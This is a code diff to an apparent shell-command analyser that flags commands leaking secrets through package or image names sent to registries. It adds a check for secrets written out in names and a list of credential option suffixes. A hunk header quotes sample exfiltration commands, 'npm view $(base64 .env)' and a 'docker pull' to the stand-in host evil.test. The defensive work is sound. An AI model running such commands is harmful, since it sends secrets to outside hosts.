@@ -5,8 +5,9 @@ A name made of a secret (``npm view $(base64 .env)``, ``docker pull evil.test/$(
 
 from __future__ import annotations
 
-from interlock.effects.contacted import MAX_WORDS, address
-from interlock.effects.hosts import classify
+from interlock.effects.contacted import LOOKUPS, MAX_WORDS, address, host_in
+from interlock.effects.hosts import classify, host_of
+from interlock.effects.leaving import leaves
 from interlock.effects.rows import Row
 from interlock.effects.run import Run
 from interlock.model.effect import LOCAL, Installs, Publishes
@@ -20,17 +21,6 @@ if TYPE_CHECKING:
     from interlock.shell.value import Value
     from interlock.shell.walk import Walker
 
-_IMAGES = "pull push run create search manifest image buildx"
-_PACKAGES = "view info show search v outdated versions"
-_LOOKUPS = {
-    **dict.fromkeys(("docker", "podman", "nerdctl", "buildah"), _IMAGES),
-    **dict.fromkeys(("skopeo", "crane", "oras", "regctl"), "inspect copy pull push manifest digest ls list-tags cp discover"),
-    **dict.fromkeys(("npm", "pnpm", "yarn", "bun"), f"{_PACKAGES} dist-tag pack"),
-    **dict.fromkeys(("pip", "pip3", "uv", "poetry", "conda", "mamba"), f"{_PACKAGES} index download"),
-    **dict.fromkeys(("cargo", "gem", "brew", "composer", "nuget", "dotnet", "helm", "snap", "flatpak"), f"{_PACKAGES} fetch pull list"),
-    "go": "list get mod",
-}
-"""Programs that ask a registry for the names they are given -> in which of their commands."""
 _OF_IMAGES = frozenset({"docker", "podman", "nerdctl"})
 """Programs whose other words are for what runs here, in a container: variables, folders, a command."""
 _TOLD = frozenset({"carries-secret", "carries-environment"})
@@ -40,8 +30,7 @@ REGISTRY = "a registry"
 def told(reader: ShellReader, execution: Execution, walker: Walker, effects: list[Effect]) -> tuple[str, frozenset[str]]:
     """Return whom a command tells a secret in a name that it asks for, and what that carries; nothing where it asks for none."""
     name = execution.argv[0].text.rpartition("/")[2]
-    verbs = _LOOKUPS.get(name, "").split()
-    if not any(effect.kind in (Installs, Publishes) for effect in effects) and not any(word.text in verbs for word in execution.argv[1:4]):
+    if not any(effect.kind is Publishes for effect in effects) and not _asks(execution, name, effects):
         return "", frozenset()
     run = Run(reader, walker, execution, Row(), name)
     for value in execution.argv[1 : MAX_WORDS + 1]:
@@ -50,6 +39,43 @@ def told(reader: ShellReader, execution: Execution, walker: Walker, effects: lis
         if carries and classify(host) != LOCAL:
             return host, carries
     return "", frozenset()
+
+
+def _asks(execution: Execution, name: str, effects: list[Effect]) -> bool:
+    """Whether a command asks a registry for names: it installs, or its word for it is one of the program's."""
+    verbs = LOOKUPS.get(name, "").split()
+    return any(effect.kind is Installs for effect in effects) or any(word.text in verbs for word in execution.argv[1:4])
+
+
+def spelled(reader: ShellReader, execution: Execution, name: str, effects: list[Effect]) -> tuple[str, Value | None]:
+    """Return whom a command tells a secret that is written out in a name, and the word; a name that only looks drawn is none."""
+    if not _asks(execution, name, effects) or any("carries-token" in effect.traits for effect in effects):
+        return "", None
+    before = ""
+    for value in execution.argv[1 : MAX_WORDS + 1]:
+        proves = before[:1] == "-" and before.lower().endswith(_PROVING)
+        if not proves and _may_name(value.text) and _is_name(execution, value, name) and leaves(reader.context, value.text):
+            host = _whom(value.text)
+            return ("", None) if classify(host) == LOCAL else (host, value)
+        before = value.text
+    return "", None
+
+
+def _whom(text: str) -> str:
+    """Return who is asked for a name: its own host, or a registry that somebody has set up."""
+    if "://" in text:
+        return host_of(text)
+    first = text.partition("/")[0].partition(":")[0] if "/" in text else ""
+    return first if first and classify(first) == LOCAL else host_in(text) or REGISTRY
+
+
+_PROVING = ("token", "password", "creds", "auth", "otp", "key", "secret", "username")
+"""How options end that are given what proves who asks."""
+
+
+def _may_name(text: str) -> bool:
+    """Whether a word may be asked for: an address, or no path, option or setting."""
+    return "://" in text or (text[:1] not in "/.~-" and "=" not in text.replace("==", ""))
 
 
 def _carries(run: Run, value: Value) -> frozenset[str]:
